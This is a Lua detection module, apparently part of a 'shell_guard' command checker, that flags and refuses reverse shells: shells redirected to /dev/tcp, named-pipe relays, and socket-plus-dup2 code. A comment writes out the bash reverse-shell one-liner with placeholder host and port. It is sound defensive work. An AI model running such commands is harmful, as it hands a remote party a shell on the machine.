-- Finds shells that are given to the other end of a connection.

local reasons = require "shell_guard.reasons"
local words = require "shell_guard.words"

local connections = {}

local SHELLS = words.set "sh bash zsh dash ksh ash fish csh tcsh mksh"

local function refuse(what)
  return reasons.refusal(
    "code.reverse-shell", what, "gives whoever is at the other end a shell on this machine", "Let the user do it"
  )
end

-- Whether a shell reads its commands from its input: it has no script.
local function has_no_script(command)
  for at = 2, #command.argv do
    local word = command.argv[at]
    if word:sub(1, 1) ~= "-" or word:find("^%-%a*c") then return false end
  end
  return true
end

--- Judges a shell whose redirections are bash's files for connections: `bash -i >& /dev/tcp/HOST/PORT 0>&1`.
function connections.redirected(command)
  if not SHELLS[command.program] or not has_no_script(command) then return nil end
  for _, redirect in ipairs(command.redirects) do
    if redirect.target:find("^/dev/[tu][cd]p/") then
      return refuse(reasons.shown(command.argv) .. " " .. redirect.op .. " " .. redirect.target)
    end
  end
end

--- Judges a program that sends what a shell prints, on a line in which a named pipe gives the shell its commands.
function connections.sends(command)
  local line = command.line
  if not line:find("mkfifo") and not line:find("mknod") then return nil end
  for _, other in ipairs(command.all) do
    if other.at == command.at then return nil end
    if SHELLS[other.program] and has_no_script(other) then
      for _, name in ipairs(command.from) do
        if name == other.program then return refuse(reasons.piped(command)) end
      end
    end
  end
end

local CONNECTS = { "socket", "fsockopen", "TCPSocket", "%.connect%(", "createConnection", "/inet/tcp/" }
local STARTS = { "/bin/%a*sh%f[^%w]", "[\"'`]%a*sh%f[^%w]", "cmd%.exe" }
local JOINS = { "dup2", "pty%.spawn", "[<>]&[%%%w$]", "%.pipe%(" }

local function has(text, patterns)
  for _, pattern in ipairs(patterns) do
    if text:find(pattern) then return true end
  end
  return false
end

--- Judges code that connects a shell with a socket.
function connections.code(text)
  if #text > 30 and has(text, CONNECTS) and has(text, STARTS) and has(text, JOINS) then
    return refuse(reasons.shown({ text }))
  end
end

return connections
